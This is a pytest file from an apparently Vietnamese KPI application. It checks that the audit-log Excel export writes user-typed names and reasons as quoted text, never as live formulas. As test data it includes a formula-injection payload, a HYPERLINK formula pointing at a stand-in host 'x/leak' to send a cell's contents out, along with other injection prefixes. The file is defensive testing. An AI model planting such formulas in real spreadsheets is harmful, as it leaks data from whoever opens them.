"""Nhật ký's «Tải nhật ký (.xlsx)»: what users typed (a login name, a reason) is written as text,
never as a live formula — the same guard as the Biểu (kpi.reports.xlsx.put_text)."""
from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import openpyxl

from kpi.domain.figures import Actor
from kpi.present.audit_texts import audit_table
from kpi.reports.audit_xlsx import SHEET, audit_workbook
from kpi.store.accounts import audit_rows
from kpi.store.writes import audit
from kpi.usecases.accounts import login

LEAK = '=HYPERLINK("http://x/leak?"&C2,"Bấm")'


def test_user_text_in_the_audit_export_is_never_a_formula(conn, catalog):
    # a name typed at sign-in that is no account is never stored (only a keyed hash of it) …
    assert login(conn, catalog.commune, LEAK, "sai", delay=0) is None
    # … but an account's name, a reason, a login are user text that reaches the export
    for text in (LEAK, "+1+2", "-3", "@SUM(A1:A3)"):
        audit(conn, Actor(text, "admin", text), "reopen_quarter", catalog.commune,
              {"action": "reopen_quarter", "reason": text})
    table = audit_table(audit_rows(conn, catalog.commune))
    data = audit_workbook(table)

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[ >]", sheet)                                     # no formula anywhere
    ws = openpyxl.load_workbook(io.BytesIO(data))[SHEET]
    header = [c.value for c in ws[1]]
    assert header == list(table.columns)
    people = {ws.cell(r, header.index("Người") + 1) for r in range(2, ws.max_row + 1)}
    dangerous = [c for c in people if str(c.value).startswith(("=", "+", "-", "@"))]
    assert {c.value for c in dangerous} == {LEAK, "+1+2", "-3", "@SUM(A1:A3)"}
    assert all(c.data_type == "s" and c.quotePrefix for c in dangerous)
    details = [str(ws.cell(r, header.index("Chi tiết") + 1).value) for r in range(2, ws.max_row + 1)]
    assert any(LEAK in d for d in details)
    assert not any(LEAK.lower() in str(c.value) for row in ws.iter_rows() for c in row)   # the typed name
    # times stay times (sortable, shown as on the page); every row of the table is there
    times = [ws.cell(r, 1).value for r in range(2, ws.max_row + 1)]
    assert len(times) == len(table) and all(isinstance(t, dt.datetime) for t in times)
    assert ws.cell(2, 1).number_format == "dd/mm/yyyy hh:mm:ss"
    assert all(abs(got - want.to_pydatetime()) < dt.timedelta(milliseconds=1)
               for got, want in zip(times, table["Thời điểm"]))


def test_an_empty_audit_table_still_exports(conn, catalog):
    table = audit_table(audit_rows(conn, "KHONG_CO"))
    ws = openpyxl.load_workbook(io.BytesIO(audit_workbook(table)))[SHEET]
    assert [c.value for c in ws[1]] == list(table.columns) and ws.max_row == 1
